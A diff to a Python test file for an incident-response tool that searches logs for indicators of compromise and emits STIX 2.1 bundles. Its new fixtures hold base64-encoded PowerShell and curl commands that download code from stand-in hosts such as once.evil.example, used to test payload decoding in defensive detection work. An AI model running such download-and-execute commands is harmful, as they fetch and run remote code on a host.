@@ -2,6 +2,7 @@
 """Indicators of the two example cases against their stories (docs/demo.md), and bundles of STIX 2.1 against the rules of the specification.
     iocs.py KAKUHO WRITE_DEMO NTFS_HELPER
 Expected values are written here by hand, from the story alone."""
+import base64
 import csv
 import io
 import json
@@ -73,6 +74,10 @@ def check_bundle(checks, name, bundle, rows):
                 checks.true(f"{name}: {o['id']} has {key}", key in o)
             for key in ("created", "modified"):
                 checks.true(f"{name}: {o['id']} {key}", re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", o[key]))
+            for key in {"first_observed", "last_observed", "valid_from"} & set(o):
+                checks.true(f"{name}: {o['id']} {key} to the microsecond at most", re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?Z", o[key]), o[key])
+            if o["type"] == "observed-data":
+                checks.true(f"{name}: {o['id']} first before last", o["first_observed"] <= o["last_observed"])
         for key, value in o.items():
             if key.endswith("_ref") or key.endswith("_refs"):
                 for ref in [value] if isinstance(value, str) else value:
@@ -158,7 +163,7 @@ def check_search(checks, name, case, folder):
         wanted = [e for e, values in events if any(re.search(pattern, v, re.I) for v in values)]
         row = rows[ioc]
         checks.equal(f"{name}: {ioc} in events", row["events"], len(wanted))
-        checks.equal(f"{name}: {ioc} found", row["status"], "found" if wanted or row["items"] else "not found")
+        checks.equal(f"{name}: {ioc} found", row["status"], "found" if wanted or row["items"] or row["people"] else "not found")
         times = sorted(e["@timestamp"] for e in wanted if "@timestamp" in e)
         if times:
             checks.near(f"{name}: {ioc} first", row["first"], min(times, key=kit.seconds_of), 0.001)
@@ -234,10 +239,76 @@ def check_without_intrusion(checks, folder):
     checks.equal("alone: SHA-1 of nothing", (missing["status"], missing["in_logs_only"]), ("not found", True))
 
 
+def check_hidden(checks, folder):
+    """What events carry encoded and what tables and mails say of people: each event counts once, however often it tells of the indicator."""
+    case, log, table, mail, given = (os.path.join(folder, n) for n in ("hidden", "hidden.jsonl", "list.csv", "m.eml", "hidden.txt"))
+
+    def encoded(text):
+        return "powershell -enc " + base64.b64encode(text.encode("utf-16-le")).decode()
+
+    once = encoded("IEX (New-Object Net.WebClient).DownloadString('http://once.evil.example/a.ps1') # 203.0.113.99")
+    twice = encoded("echo " + base64.b64encode(b"curl http://deep.evil.example/x -o /tmp/y").decode() + " | base64 -d")
+    image = "C:\\Windows\\System32\\cmd.exe"
+    with open(log, "w", encoding="utf-8") as file:
+        file.write("\n".join(sysmon(n, n, "WS\\taro", image, command, "") for n, command in
+                             enumerate((once, twice, "ping once.evil.example & " + once, once + " & " + once), 1)) + "\n")
+    with open(table, "w", encoding="utf-8") as file:
+        file.write("氏名,メール,電話番号,住所\n山田太郎,taro@shop.example,090-0000-5678,東京都千代田区丸の内1-1\n鈴木花子,hanako@good.example,090-0000-2222,大阪府大阪市北区梅田1-2\n")
+    with open(mail, "w", encoding="utf-8") as file:
+        file.write("From: Somebody <phish@evil.example>\nTo: taro@good.example\nSubject: x\nDate: Mon, 2 Mar 2026 10:00:00 +0900\nMessage-ID: <1@x>\n\nhello\n")
+    wanted = {"once.evil.example": (3, 0), "deep.evil.example": (1, 0), "203.0.113.99": (3, 0), "phish@evil.example": (1, 1), "taro@shop.example": (0, 1),
+              "090-0000-5678": (0, 1), "shop.example": (0, 1), "none.example": (0, 0)}
+    with open(given, "w", encoding="utf-8") as file:
+        file.write("\n".join(wanted) + "\n")
+    kit.init(case, os.path.join(folder, "alone.yaml"))
+    kit.add(case, [log, table, mail])
+    told = kit.kakuho("iocs", case, "--ioc", given, "--json").json()
+    rows = {r["indicator"]: r for r in told["results"]}
+    for ioc, counts in wanted.items():
+        checks.equal(f"hidden: {ioc}", (rows[ioc]["events"], rows[ioc]["people"], rows[ioc]["status"]), (*counts, "found" if any(counts) else "not found"))
+    checks.equal("hidden: where", [rows[i]["fields"] for i in ("deep.evil.example", "taro@shop.example")], [["decoded payload"], ["person"]])
+    checks.equal("hidden: places", [[(os.path.basename(r["path"]), r["record"]) for r in rows[i]["refs"]] for i in ("deep.evil.example", "taro@shop.example")],
+                 [[("hidden.jsonl", 2)], [("list.csv", 2)]])
+    checks.true("hidden: what was looked through", told["searched"]["payloads"] >= 4 and told["searched"]["people"] >= 3, str(told["searched"]))
+    last = list(csv.DictReader(io.StringIO(kit.kakuho("iocs", case, "--ioc", given, "--format", "csv").out.decode())))[-1]
+    checks.equal("hidden: what was not found has no place", (last["status"], last["ref.path"], last["ref.record"], last["ref.offset"]), ("not found", "", "", ""))
+
+
+def made_ids(case):
+    """Objects of ours (observables have ids of their content alone), with their times."""
+    bundle = kit.kakuho("iocs", case, "--format", "stix").json()
+    return {o["id"]: (o["created"], o["modified"]) for o in bundle["objects"] if "created" in o and o["type"] != "grouping"}
+
+
+def check_stix_of_two(checks, folder):
+    """Two organisations have a case of the same name and the same intruder: their objects are not the same. When evidence comes later, ids stay."""
+    rules, ids = os.path.join(folder, "rules"), []
+    for who in ("one", "two"):
+        case, log = os.path.join(folder, who, "case"), os.path.join(folder, who, "sysmon.jsonl")
+        os.makedirs(os.path.join(folder, who))
+        with open(log, "w", encoding="utf-8") as file:
+            file.write(sysmon(1, 1, f"WS\\{who}", "C:\\Users\\Public\\x.exe", "x.exe marked", HASHES) + "\n")
+        kit.init(case, os.path.join(folder, "alone.yaml"))
+        kit.kakuho("add", case, log, "--rules", rules, "--now", "2026-03-02T00:00:00Z")
+        ids.append(made_ids(case))
+        checks.true(f"{who}: objects of ours", len(ids[-1]) > 3)
+    checks.equal("ids of both", sorted(set(ids[0]) & set(ids[1])), [])
+    later = os.path.join(folder, "later.jsonl")
+    with open(later, "w", encoding="utf-8") as file:
+        file.write(sysmon(9, 9, "WS\\more", "C:\\Users\\Public\\z.exe", "z.exe marked", "") + "\n")
+    kit.kakuho("add", case, later, "--now", "2026-03-03T00:00:00Z")
+    grown = made_ids(case)
+    checks.equal("ids that are gone", sorted(set(ids[1]) - set(grown)), [])
+    checks.true("more of them", len(grown) > len(ids[1]))
+    checks.equal("created and modified", set(grown.values()), {("2026-03-02T00:00:00.000Z", "2026-03-03T00:00:00.000Z")})
+
+
 def main():
     checks = kit.Checks()
     folder = kit.place("iocs")
     check_without_intrusion(checks, folder)
+    check_stix_of_two(checks, folder)
+    check_hidden(checks, folder)
     checks.equal("a file that is not there", kit.kakuho("iocs", folder, "--ioc", os.path.join(folder, "none")).status, 2)
     for name in STORY:
         case_file, evidence, more, _ = kit.demo_case(name)
